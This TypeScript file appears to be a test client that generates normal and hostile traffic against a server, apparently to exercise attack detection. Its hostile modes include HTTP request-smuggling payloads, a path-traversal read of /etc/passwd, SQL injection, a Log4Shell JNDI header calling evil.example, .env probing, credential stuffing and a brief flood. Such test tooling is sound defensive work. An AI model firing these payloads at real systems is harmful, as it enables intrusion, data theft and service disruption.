/** One of several clients of a server, good and bad: `node findings-client.ts KIND ADDRESS PORT`. Ends when it is through. */
import { connect } from 'node:net';
import { Agent, request } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';

const [kind = '', host = '', port = ''] = process.argv.slice(2);
const agent = new Agent({ keepAlive: true, maxSockets: 8 });

async function ask(method: string, path: string, headers: Record<string, string> = {}, body = ''): Promise<void> {
  const { promise, resolve, reject } = Promise.withResolvers<void>();
  request({ host, port, agent, method, path, headers: { 'user-agent': 'Mozilla/5.0', ...headers, ...(body !== '' && { 'content-length': body.length }) } }, (response) => {
    response.resume().on('end', resolve).on('error', reject);
  })
    .on('error', reject)
    .end(body);
  return promise;
}

/** Bytes as they are, over a connection of their own. */
async function raw(text: string): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const socket = connect(Number(port), host, () => socket.write(text, 'latin1'));
  socket.on('error', () => {}).on('close', () => resolve()).resume();
  setTimeout(() => socket.destroy(), 300);
  return promise;
}

const KINDS: Readonly<Record<string, () => Promise<void>>> = {
  /** Some twenty requests a second for a while, as people and their programs make them. */
  async visitors() {
    for (let i = 0; i < 600; i++) {
      await ask('GET', i % 3 === 0 ? `/products/${i}` : `/search?q=${encodeURIComponent("rock 'n' roll or jazz")}&page=${i}`);
      if (i % 40 === 0) await ask('POST', '/login', {}, `user=u${i}&password=${i % 120 === 0 ? 'mistyped' : 'right'}`);
      if (i % 50 === 0) await ask('GET', '/favicon.ico');
      await sleep(40);
    }
  },
  async smuggler() {
    await raw('POST /cart HTTP/1.1\r\nHost: shop\r\nContent-Length: 44\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: shop\r\n\r\n');
    await raw('POST /cart HTTP/1.1\r\nHost: shop\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n');
    await raw('POST /cart HTTP/1.1\r\nHost: shop\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd');
  },
  async scanner() {
    for (let i = 0; i < 60; i++) await ask('GET', `/${['admin', 'backup', 'old', 'test', 'shell'][i % 5]}${i}.php`);
  },
  async stuffer() {
    for (let i = 0; i < 40; i++) await ask('POST', '/login', {}, `user=victim${i}@example.com&password=${'correct-horse'.slice(0, 3 + (i % 9))}`);
  },
  async prober() {
    await raw('GET /static/../../../etc/passwd HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n');
    await ask('GET', `/search?q=${encodeURIComponent("1' OR '1'='1")}`);
    await ask('GET', '/', { 'x-api-version': '${jndi:ldap://evil.example/a}' });
    await ask('GET', '/.env');
    await ask('GET', '/search?access_token=TOPSECRETTOPSECRETTOPSECRET');
    await ask('TRACE', '/');
  },
  /** Twelve seconds of many times what is usual. */
  async flooder() {
    const endMs = performance.now() + 12_000;
    for (let i = 0; performance.now() < endMs; i++) {
      await Promise.all(Array.from({ length: 8 }, () => ask('GET', `/products/${i}`)));
      await sleep(20);
    }
  },
};

await KINDS[kind]!();
agent.destroy();
